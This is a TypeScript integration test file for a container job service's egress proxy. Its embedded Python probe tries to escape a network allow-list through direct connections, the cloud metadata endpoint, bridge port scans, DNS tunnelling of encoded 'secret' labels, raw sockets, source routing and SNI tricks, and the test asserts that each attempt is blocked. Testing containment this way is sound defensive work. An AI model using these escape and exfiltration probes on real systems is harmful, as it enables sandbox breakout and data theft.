/**
 * Jobs with a list of addresses, on the real engine: what the list names is reached, and every other way out that a hostile program has
 * is shut. What may not arrive is counted where it would.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { JobEgress } from '../../src/contract/job-egress.ts';
import type { JobTaskOutput } from '../../src/contract/job-output.ts';
import type { JobPlan, JobStep } from '../../src/contract/job-plan.ts';
import { noCards } from '../../src/policy/given-cards.ts';
import { type JobContainerInput, renderJobContainer } from '../../src/policy/render-job-container.ts';
import { type Outside, openOutside } from '../support/egress-ground.ts';
import { engineCall } from '../support/engine-call.ts';
import { eventually } from '../support/eventually.ts';
import { plan as planOf, step, words } from '../support/job-plans.ts';
import { openTestHost, type TestHost } from '../support/test-host.ts';
import { ownRange } from './gate-ground.ts';

let host: TestHost;
let outside: Outside;
let python: string;
let tiny: string;
let neighbour: { id: string; address: string };

beforeAll(async () => {
  outside = await openOutside(await ownRange());
  const { open } = outside;
  host = await openTestHost({ policy: { egress: { allow: [`${open}/32`], name_servers: [open] } } });
  [python, tiny] = await Promise.all([host.image('python'), host.image('tiny')]);
  neighbour = await startNeighbour();
});
afterAll(async () => {
  if (neighbour) await engineCall(host.engineSocket, 'DELETE', `/containers/${neighbour.id}?force=1`);
  await host?.close();
  await outside?.close();
});

const resources = { gpu_count: 0, cpu_cores: 0.5, memory_gib: 0.25 };
const results = [{ name: 'said', regex: '^(.+)$', channels: ['stdout' as const] }];
const rules = (...urls: string[]): JobEgress => ({
  rules: urls.map((text) => {
    const { protocol, hostname, port } = new URL(text);
    const scheme = protocol === 'http:' ? 'http' : 'https';
    return { scheme, host: hostname, port: Number(port || (scheme === 'http' ? 80 : 443)) };
  }),
  any_public: [],
});

/** Prints `name: outcome` for each attempt. */
const preamble = `
import os, socket, ssl, struct, urllib.request
socket.setdefaulttimeout(2)
def attempt(name, work):
    try: outcome = work()
    except Exception as error: outcome = type(error).__name__ + ' ' + str(error)[:80]
    print(name + ': ' + str(outcome).replace('\\n', ' ')[:160], flush=True)
def url(text, **more):
    context = ssl._create_unverified_context()
    return urllib.request.build_opener(urllib.request.HTTPSHandler(context=context)).open(text).read().decode()
def tcp(address, port):
    socket.create_connection((address, port)).close()
    return 'CONNECTED'
def udp(address, port, data=b'x'):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(data, (address, port)); return s.recvfrom(512)
def proxy(text, then=b'', wait=True):
    s = socket.create_connection(('egress', 3128)); s.sendall(text.encode())
    first = s.recv(4096)
    if then: s.sendall(then); return (first + b' | ' + s.recv(4096)).decode('latin1')
    return first.decode('latin1').split('\\r\\n')[0]
def sni(place, name):
    s = socket.create_connection(('egress', 3128)); s.sendall(('CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % (place, place)).encode())
    first = s.recv(4096).decode().split('\\r\\n')[0]
    if ' 200 ' not in first: return first
    return ssl._create_unverified_context().wrap_socket(s, server_hostname=name).version()
`;

describe('a job with a list of addresses', () => {
  it('reaches what the list names, by name, over http and https, and finds its own parts (M-36)', async () => {
    const script = `${preamble}
attempt('https', lambda: url('https://open.example/'))
attempt('http', lambda: url('http://open.example/'))
attempt('tunnel', lambda: proxy('CONNECT open.example:80 HTTP/1.1\\r\\n\\r\\n', b'GET / HTTP/1.1\\r\\nHost: open.example\\r\\nConnection: close\\r\\n\\r\\n')[-7:])
`;
    const { result, said } = await run('egress-fine', script, rules('https://open.example', 'http://open.example'));

    expect(result.failure).toBeNull();
    expect(said).toMatchObject({ https: 'allowed', http: 'allowed', tunnel: expect.stringContaining('allowed') });
    expect(outside.came.get(`${outside.open}:443/tcp`)).toBeGreaterThan(0);
    expect(await leftOf('egress-fine')).toEqual([]);
  });

  it('gets nowhere else, whatever it tries (M-37, M-38)', async () => {
    const { open, closed } = outside;
    const before = new Map(outside.came);
    const gateway = await hostAddress();
    const script = `${preamble}
attempt('direct tcp', lambda: tcp('${open}', 443))
attempt('direct closed', lambda: tcp('${closed}', 80))
attempt('direct udp', lambda: udp('${closed}', 53))
attempt('metadata', lambda: tcp('169.254.169.254', 80))
attempt('neighbour', lambda: tcp('${neighbour.address}', 8080))
attempt('host', lambda: tcp('${gateway}', 22))
own = socket.gethostbyname(socket.gethostname()).rsplit('.', 1)
first = own[0] + '.' + str(int(own[1]) // 16 * 16 + 1)
def bridge():
    opened = []
    for port in list(range(1, 200)) + [2375, 2376, 8080, 9323]:
        s = socket.socket(); s.settimeout(0.02)
        if s.connect_ex((first, port)) in (0, 111): opened.append(port)
    return opened
attempt('bridge', bridge)
attempt('name', lambda: socket.getaddrinfo('open.example', 443))
attempt('dns tunnel', lambda: socket.getaddrinfo('c2VjcmV0.tunnel.example', 80))
def resolver():
    import threading
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('127.0.0.1', 53)); s.settimeout(5)
    threading.Thread(target=lambda: attempt('dns answered', lambda: socket.getaddrinfo('c2Vj.tunnel.example', 80)), daemon=True).start()
    return 'HERE' if b'tunnel' in s.recvfrom(512)[0] else 'OTHER'
attempt('dns goes', resolver)
attempt('own name server', lambda: socket.gethostbyname('egress') and 'FOUND')
attempt('ipv6', lambda: [socket.if_nameindex(), open('/proc/net/if_inet6').read()] if os.path.exists('/proc/net/if_inet6') and open('/proc/net/if_inet6').read().replace('00000000000000000000000000000001 01 80 10 80       lo', '').strip() else 'NONE')
def v6():
    s = socket.socket(socket.AF_INET6); s.settimeout(2); s.connect(('ff02::1', 80, 0, 2)); return 'CONNECTED'
attempt('ipv6 link', v6)
def raw(): socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); return 'RAW'
attempt('raw', raw)
def packet(): socket.socket(socket.AF_PACKET, socket.SOCK_RAW); return 'PACKET'
attempt('packet', packet)
def routed():
    s = socket.socket(); s.settimeout(2); via = socket.gethostbyname('egress')
    s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, bytes([131, 7, 4]) + socket.inet_aton('${closed}') + b'\\0')
    s.connect((via, 80)); return 'CONNECTED'
attempt('source route', routed)
attempt('route', lambda: open('/proc/sys/net/ipv4/ip_forward', 'w') and 'WRITTEN')
attempt('http on https', lambda: proxy('GET http://open.example/ HTTP/1.1\\r\\nHost: open.example\\r\\n\\r\\n'))
attempt('plain in tunnel', lambda: proxy('CONNECT open.example:443 HTTP/1.1\\r\\n\\r\\n', b'GET /plain HTTP/1.1\\r\\n\\r\\n'))
attempt('other name', lambda: sni('open.example:443', 'other.example'))
attempt('no name', lambda: sni('open.example:443', None))
attempt('unlisted', lambda: url('https://closed.example/'))
attempt('literal', lambda: url('https://${open}/'))
attempt('private name', lambda: sni('inner.example:443', 'inner.example'))
attempt('listed private', lambda: sni('closed.example:22', 'closed.example'))
attempt('listed metadata', lambda: sni('metadata.example:443', 'metadata.example'))
attempt('changing 1', lambda: sni('changing.example:443', 'changing.example'))
attempt('changing 2', lambda: sni('changing.example:443', 'changing.example'))
attempt('proxy itself', lambda: sni('egress:3128', 'egress'))
attempt('loopback', lambda: sni('localhost:3128', 'localhost'))
`;
    const egress = rules(
      ...['https://open.example', 'https://closed.example:22', 'https://metadata.example', 'https://changing.example'],
      ...['https://egress:3128', 'https://localhost:3128'],
    );
    const { result, said, events } = await run('egress-hostile', script, egress);

    expect(result.failure).toBeNull();
    for (const name of ['direct tcp', 'direct closed', 'direct udp', 'metadata', 'neighbour', 'host']) {
      expect(said[name], name).toMatch(/TimeoutError|OSError|timed out|unreachable|No route/i);
    }
    expect(said['bridge']).toBe('[]');
    for (const name of ['name', 'dns tunnel']) expect(said[name], name).toMatch(/gaierror/);
    // The engine forwards what it does not know itself to the container that has asked, and to nobody else.
    expect(said['dns goes']).toBe('HERE');
    expect(said['own name server']).toBe('FOUND');
    expect(said['ipv6']).toBe('NONE');
    for (const name of ['ipv6 link', 'raw', 'packet', 'source route', 'route']) {
      expect(said[name], name).toMatch(/Error|timeout/i);
    }
    expect(said['http on https']).toMatch(/^HTTP\/1\.1 403 /);
    expect(said['plain in tunnel']).not.toContain('allowed');
    for (const name of ['other name', 'no name']) expect(said[name], name).toMatch(/SSLError|ConnectionReset/);
    for (const name of ['unlisted', 'literal']) expect(said[name], name).toMatch(/403|Forbidden/);
    for (const name of ['private name', 'listed private', 'listed metadata', 'proxy itself', 'loopback']) {
      expect(said[name], name).toMatch(/ (403|502) /);
    }
    expect(said['changing 1']).toMatch(/^TLS/);
    expect(said['changing 2']).toMatch(/ 403 /);

    const arrived = [...outside.came]
      .filter(([place, count]) => count > (before.get(place) ?? 0))
      .map(([place]) => place);
    // What the list names, and the name server that the proxy asks: nothing else has heard of the job.
    expect(arrived.filter((place) => place.startsWith(`${closed}:`))).toEqual([]);
    expect(arrived.filter((place) => place.startsWith(`${open}:80`))).toEqual([]);
    expect(outside.asked.filter((name) => name.includes('tunnel'))).toEqual([]);
    const refused = events.filter(({ type }) => type === 'egress.refused').map(({ values }) => values);
    expect(refused).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ host: 'open.example', port: 80, scheme: 'http', code: 'not_listed' }),
        expect.objectContaining({ host: 'open.example', port: 443, code: 'wrong_name' }),
        expect.objectContaining({ host: 'closed.example', port: 443, code: 'not_listed' }),
        expect.objectContaining({ host: 'metadata.example', code: 'private_address' }),
      ]),
    );
    expect(await leftOf('egress-hostile')).toEqual([]);
  });

  it('is told where a redirect leads, and does not get there where the list does not', async () => {
    const { open, closed } = outside;
    const count = (place: string) => outside.came.get(place) ?? 0;
    const before = { away: count(`${open}:80/away`), closed: count(`${closed}:80/tcp`) };
    const script = `${preamble}\nattempt('redirect', lambda: url('http://open.example/away'))`;

    const { said, events } = await run('egress-redirect', script, rules('http://open.example'));

    expect(said['redirect']).toMatch(/^HTTPError .*403/);
    expect(count(`${open}:80/away`)).toBe(before.away + 1);
    expect(count(`${closed}:80/tcp`)).toBe(before.closed);
    const refused = events.filter(({ type }) => type === 'egress.refused').map(({ values }) => values);
    expect(refused).toEqual([expect.objectContaining({ host: closed, port: 80, scheme: 'http', code: 'not_listed' })]);
  });

  it('reaches nothing at all where the list is empty, or where there is no network (M-39)', async () => {
    const script = `${preamble}
attempt('https', lambda: sni('open.example:443', 'open.example'))
attempt('direct', lambda: tcp('${outside.open}', 443))
`;
    const empty = await run('egress-empty', script, rules());
    const none = await run('egress-none', script, undefined);

    expect(empty.said['https']).toMatch(/ 403 /);
    expect(none.said['https']).toMatch(/gaierror/);
    for (const { said } of [empty, none]) expect(said['direct']).toMatch(/Error|timed out/);
  });

  it('is shut in while its proxy is away, and has another one soon (M-37)', async () => {
    const script = `${preamble}
import time
attempt('before', lambda: url('https://open.example/'))
print('ready', flush=True)
os.environ['X'] = '1'
def gone():
    for _ in range(600):
        try: url('https://open.example/')
        except Exception: return 'GONE'
        time.sleep(0.02)
attempt('gone', gone)
attempt('direct', lambda: tcp('${outside.open}', 443))
def back():
    for _ in range(300):
        try: return url('https://open.example/')
        except Exception: time.sleep(0.1)
attempt('back', back)
`;
    const running = run('egress-killed', script, rules('https://open.example'));
    await eventually(async () => {
      const { body } = await engineCall(host.engineSocket, 'GET', '/containers/gpuaas-egress-killed.one/logs?stdout=1');
      expect(String(body)).toContain('ready');
    });
    await host.signal('gpuaas-egress-killed.egress', 'KILL');
    const { said, events } = await running;

    expect(said).toMatchObject({ before: 'allowed', gone: 'GONE', back: 'allowed' });
    expect(said['direct']).toMatch(/Error|timed out/);
    expect(events.map(({ type }) => type)).toContain('egress.restarted');
  });

  it('has a proxy that can do nothing else: read-only, nobody, without rights, with its own limits', async () => {
    const running = run('egress-seen', `${preamble}\nimport time\ntime.sleep(600)`, rules('https://open.example'));
    const look = '/containers/gpuaas-egress-seen.egress/json';
    // biome-ignore lint/suspicious/noExplicitAny: what the engine says
    let seen: any;
    await eventually(async () => {
      const { status, body } = await engineCall(host.engineSocket, 'GET', look);
      expect(status).toBe(200);
      seen = body;
      expect(seen.State.Running).toBe(true);
    });
    await eventually(() => host.signal('gpuaas-egress-seen.one', 'KILL'));
    await running;

    expect(seen.Config).toMatchObject({ User: '65534:65534' });
    expect(seen.HostConfig).toMatchObject({
      ...{ ReadonlyRootfs: true, CapDrop: ['ALL'], Privileged: false, Memory: 2 ** 28, PidsLimit: 64 },
      ...{ SecurityOpt: ['no-new-privileges'], Sysctls: expect.objectContaining({ 'net.ipv4.ip_forward': '0' }) },
    });
    expect(seen.Mounts).toEqual([]);
    expect(Object.keys(seen.NetworkSettings.Networks).sort()).toEqual([
      ...['gpuaas-egress-seen', 'gpuaas-egress-seen.egress'],
    ]);
  });
});

describe('the gate', () => {
  it('starts nothing in a network of another kind than it was made for', async () => {
    const job = 'egress-mixed';
    const owner = {
      'gpuaas.instance': job,
      'gpuaas.project': 'project-1',
      'gpuaas.allocation': host.policy.allocation.id,
    };
    await host.engine.ensureNetwork(`gpuaas-${job}`, owner, AbortSignal.timeout(60_000));
    const request = {
      ...{ project_id: 'project-1', allocation_id: host.policy.allocation.id, task_id: 't', fencing: 1 },
      egress: rules('https://open.example'),
    };

    await expect(host.engine.ensureEgress(job, request, AbortSignal.timeout(60_000))).rejects.toMatchObject({
      code: 'name.conflict',
    });
    await host.engine.removeNetwork(`gpuaas-${job}`, AbortSignal.timeout(60_000));
  });

  it('starts no container in a network of the other kind, whoever asks for it', async () => {
    const { id: allocation_id } = host.policy.allocation;
    const soon = () => AbortSignal.timeout(60_000);
    const [open, closed] = ['egress-kind-open', 'egress-kind-closed'];
    const owner = { 'gpuaas.project': 'project-1', 'gpuaas.allocation': allocation_id };
    await host.engine.ensureNetwork(`gpuaas-${open}`, { ...owner, 'gpuaas.instance': open }, soon());
    const proxy = {
      project_id: 'project-1',
      allocation_id,
      task_id: 't',
      fencing: 1,
      egress: rules('https://open.example'),
    };
    expect(await host.engine.ensureEgress(closed, proxy, soon())).toBe(true);
    expect(await host.engine.ensureEgress(closed, { ...proxy, task_id: 'later', fencing: 2 }, soon())).toBe(false);
    expect(await host.engine.ensureEgress(closed, { ...proxy, egress: rules('https://b.example') }, soon())).toBe(true);

    const made = async (job: string, network: 'bridge' | 'allow_list') => {
      const { name, request } = renderJobContainer({
        ...{
          identity: { ...planOf().identity, project_id: 'project-1', job_id: job, allocation_id },
          sandbox: 'runc',
          network,
        },
        ...{
          read_only_root: false,
          log_limits: { max_size_mib: 1, max_files: 2 },
          policy: host.policy,
          reference: tiny,
        },
        image: { id: '', repoDigests: [tiny], env: [], volumes: [], workingDir: '', hasHealthcheck: false },
        ...{ cards: noCards, taskId: 't', fencing: 1 },
        part: {
          ...{ id: 'one', command: ['sleep', '60'], env: {}, mounts: [], ports: [], aliases: [], resources },
          restart: { policy: 'no', max_retries: 0 },
        },
      } satisfies JobContainerInput);
      await host.engine.create(name, request, soon());
      const started = host.engine.start(name, soon());
      await expect(started).rejects.toMatchObject({ code: 'policy.refused' });
      await host.engine.remove(name, soon());
    };
    await made(open, 'allow_list');
    await made(closed, 'bridge');

    await host.engine.remove(`gpuaas-${closed}.egress`, soon());
    for (const job of [open, closed]) await host.engine.removeNetwork(`gpuaas-${job}`, soon());
    expect(await leftOf('egress-kind')).toEqual([]);
  });

  it('makes no proxy for another allocation, nor by a request with a word too many', async () => {
    const request = {
      ...{ project_id: 'project-1', allocation_id: 'other', task_id: 't', fencing: 1, egress: rules() },
    };
    const ask = (over: object) =>
      host.engine.ensureEgress('egress-x', { ...request, ...over }, AbortSignal.timeout(60_000));

    await expect(ask({})).rejects.toMatchObject({ code: 'policy.refused' });
    const { id } = host.policy.allocation;
    await expect(ask({ allocation_id: id, image: 'tiny' })).rejects.toMatchObject({ code: 'policy.refused' });
    await expect(ask({ allocation_id: id, egress: { rules: [] } })).rejects.toMatchObject({ code: 'policy.refused' });
  });
});

interface Told {
  readonly type: string;
  readonly values: Readonly<Record<string, unknown>>;
}

async function run(id: string, script: string, egress: JobEgress | undefined, over: Partial<JobStep> = {}) {
  const events: Told[] = [];
  const said: Record<string, string> = {};
  const media_type = 'application/vnd.docker.distribution.manifest.v2+json';
  const plan: JobPlan = planOf({
    identity: { ...planOf().identity, project_id: 'project-1', job_id: id, allocation_id: host.policy.allocation.id },
    images: [{ id: 'main', source: { kind: 'registry', reference: python, media_type } }],
    steps: [step('one', { command: words('python3', '-c', script), resources, results, ...over })],
    ...(egress ? { network: 'allow_list' as const, egress } : { network: 'none' as const }),
  });
  const result = await host.run('workload.job_launch', plan, {
    deadlineSeconds: 300,
    onEvent: ({ type, values }) => void events.push({ type, values }),
  });
  const output = result.output as JobTaskOutput | null;
  for (const line of output?.report?.steps[0]?.results['said'] ?? []) {
    const [name = '', ...rest] = line.split(': ');
    said[name] = rest.join(': ');
  }
  return { result, output, said, events };
}

async function leftOf(job: string): Promise<string[]> {
  const ours = ({ Name, Names }: { Name?: string; Names?: string[] }) =>
    [Name ?? '', ...(Names ?? [])].filter((name) => name.replace('/', '').startsWith(`gpuaas-${job}`));
  const containers = await engineCall<{ Names: string[] }[]>(host.engineSocket, 'GET', '/containers/json?all=1');
  const networks = await engineCall<{ Name: string }[]>(host.engineSocket, 'GET', '/networks');
  return [...containers.body.flatMap(ours), ...networks.body.flatMap(ours)];
}

/** A container of somebody else, in the network that engines have by themselves. */
async function startNeighbour() {
  const body = { Image: tiny, Cmd: ['sh', '-c', 'mkdir /w; exec httpd -f -p 8080 -h /w'] };
  const { body: made } = await engineCall<{ Id: string }>(host.engineSocket, 'POST', '/containers/create', body);
  await engineCall(host.engineSocket, 'POST', `/containers/${made.Id}/start`);
  const { body: seen } = await engineCall<{ NetworkSettings: { IPAddress: string } }>(
    ...([host.engineSocket, 'GET', `/containers/${made.Id}/json`] as const),
  );
  return { id: made.Id, address: seen.NetworkSettings.IPAddress };
}

/** Of the host, in that network. */
async function hostAddress(): Promise<string> {
  const { body } = await engineCall<{ IPAM: { Config: { Gateway?: string }[] } }>(
    ...([host.engineSocket, 'GET', '/networks/bridge'] as const),
  );
  return body.IPAM.Config[0]?.Gateway ?? '172.17.0.1';
}
